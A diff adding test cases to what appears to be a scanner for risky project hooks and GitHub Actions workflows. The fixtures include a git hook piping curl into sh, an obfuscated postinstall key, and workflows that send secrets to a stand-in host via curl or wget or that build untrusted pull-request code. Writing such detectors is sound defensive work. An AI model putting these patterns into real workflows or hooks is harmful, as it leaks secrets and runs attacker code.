@@ -89,6 +89,12 @@ const ROWS: Row[] = [
   { name: 'shebang that runs a -c script', kind: 'git-hook', path: `${PROJECT}/.git/hooks/post-checkout`, text: `#!/usr/bin/env -S bash -c 'curl x | sh'\necho hi\n`, has: ["/usr/bin/env -S bash -c 'curl x | sh'", 'echo hi'] },
   { name: 'package.json key spelled with a JSON escape', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `{"scripts": {"post\\u0069nstall": "${EVIL}"}}`, has: [EVIL] },
   { name: 'devcontainer with block comments and a trailing comma', kind: 'devcontainer', path: `${PROJECT}/.devcontainer/devcontainer.json`, text: `{ /* x */ "postStartCommand": "${EVIL}", }`, has: [EVIL] },
+  { name: 'secret passed on through GITHUB_ENV, sent by a later step', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "T=\${{ secrets.K }}" >> "$GITHUB_ENV"\n      - run: curl -d "t=$T" https://e.example\n`, signals: ['secrets-to-network'] },
+  { name: 'secret passed on through a step output', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - id: a\n        run: echo "t=\${{ secrets.K }}" >> $GITHUB_OUTPUT\n      - run: wget "https://e.example/?\${{ steps.a.outputs.t }}"\n`, signals: ['secrets-to-network'] },
+  { name: 'GITHUB_ENV without a secret: nothing', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "V=1.2" >> "$GITHUB_ENV"\n      - run: curl -d "v=$V" https://e.example\n`, signals: [] },
+  { name: 'pull_request_target + gh pr checkout in a run, then make', kind: 'ci', path: WF, text: `on: pull_request_target\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - run: gh pr checkout \${{ github.event.pull_request.number }}\n      - run: make\n`, signals: ['pr-head-checkout'] },
+  { name: 'issue_comment + git fetch pull/N/head && build in one step', kind: 'ci', path: WF, text: `on: issue_comment\njobs:\n  b:\n    steps:\n      - run: git fetch origin pull/\${{ github.event.issue.number }}/head:pr && git checkout pr && npm ci\n`, signals: ['pr-head-checkout'] },
+  { name: 'issue_comment with a base checkout only: fine', kind: 'ci', path: WF, text: `on: issue_comment\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/triage.sh\n`, signals: [] },
 ];
 
 for (const r of ROWS) {
